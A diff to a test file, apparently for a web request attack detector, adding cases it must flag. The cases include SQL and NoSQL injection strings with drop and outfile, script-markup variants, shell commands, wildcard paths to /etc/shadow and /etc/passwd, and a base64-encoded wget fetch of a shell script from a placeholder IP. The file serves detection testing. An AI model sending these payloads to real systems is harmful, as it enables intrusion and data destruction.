@@ -99,6 +99,43 @@ const ATTACKS: readonly (readonly [rule: string, name: string, value: string])[]
   ['cloud metadata', 'q', 'http://169.254.169.254/latest/meta-data/'],
   ['scheme for other protocols', 'q', 'gopher://127.0.0.1:6379/_INFO'],
   ['scheme for other protocols', 'x', 'ldap://198.51.100.9/a'],
+  ['logic behind a quote', 'x', '" or 1 or "'],
+  ['logic behind a quote', 'x', "' or 2 limit 1"],
+  ['comparison of numbers', 'x', `16" or 18=18`],
+  ['logic after a quote', 'q', "' or true"],
+  ['logic after a quote', 'q', "' or name like 'a%"],
+  ['quote and statement end', 'x', "5';"],
+  ['quote and statement end', 'q', "5'; drop"],
+  ['number and logic', 'x', '1960 or 1960'],
+  ['number and logic', 'x', '1960 or 1'],
+  ['number and condition', 'x', '1 collate utf8_general_ci'],
+  ['number and comment', 'x', '7--'],
+  ['value and comment', 'x', '7/*'],
+  ['variable alone', 'x', '@version--'],
+  ['session variable compared', 'x', '1 and current_user=2'],
+  ['sum compared', 'x', '-1 or 3+101-101-1=0+0+0+2'],
+  ['rest of a query', 'x', '3) from members where name='],
+  ['case or if', 'x', 'case 3 when 4 then 5 end'],
+  ['outfile', 'x', "2 into outfile concat('a','b')"],
+  ['comparisons behind a quote', 'x', "b' != 'c' = 0"],
+  ['union select', 'x', 'uni<>on sel<>ect 1,2'],
+  ['markup', 'x', '<h1>b'],
+  ['markup', 'x', 'size<table>'],
+  ['ls with names', 'x', 'ls bin lib'],
+  ['common command as a value', 'x', 'id > out.txt'],
+  ['common command as a value', 'x', 'ls > x'],
+  ['path with wildcards', 'x', '/e*c/*hadow'],
+  ['path with wildcards', 'x', '/??c/?asswd'],
+  ['dialogue call by another name', 'x', 'confirm.call(null,7)'],
+  ['dialogue call by another name', 'x', 'prompt?.(7)'],
+  ['matching rule', 'x', 'uid:dn:2.5.13.5:=a'],
+  ['operator behind a quote', 'x', "', $or: [ { }, { 'a':'b"],
+  ['call of a collection', 'x', 'db.members.find()'],
+  ['call of a collection', 'q', "'; db.members.drop()"],
+  ['share of an address', 'x', '\\\\198.51.100.9\\a'],
+  ['share of an address', 'x', '\\\\files\\c$\\users'],
+  ['word in pieces', 'x', 'ev"&"a"&"l'],
+  ['path parameter with an ending', 'x', '/admin/users;.jsp'],
 ];
 
 test.each(ATTACKS)('%s in %s: %s', (rule, name, value) => {
@@ -109,6 +146,16 @@ test('an escape that hides another, and the upload handler of Telerik', () => {
   expect(namesOf('/a?x=%25%32%65')).toContain('hiding escape');
   expect(namesOf('/Telerik.Web.UI.WebResource.axd?type=rau')).toEqual(['Telerik']);
   expect(namesOf('/Telerik.Web.UI.WebResource.axd?a=b&type=rau')).toEqual(['Telerik']);
+});
+
+test('an attack in base64, with padding and without', () => {
+  for (const text of ["7' or '1'='1", '<script>alert(7)</script>', ';wget http://198.51.100.9/a.sh'])
+    for (const end of ['', '=', '=='])
+      expect(namesOf(`/a?x=${Buffer.from(text).toString('base64').replace(/=+$/, '')}${end}`), text).not.toEqual([]);
+});
+
+test('a query that stands encoded in a query', () => {
+  expect(namesOf('/a?x=%250A1+union%2Bselect%2B1%252C2')).not.toEqual([]);
 });
 
 test('a client that sends the marks of a search box itself', () => {
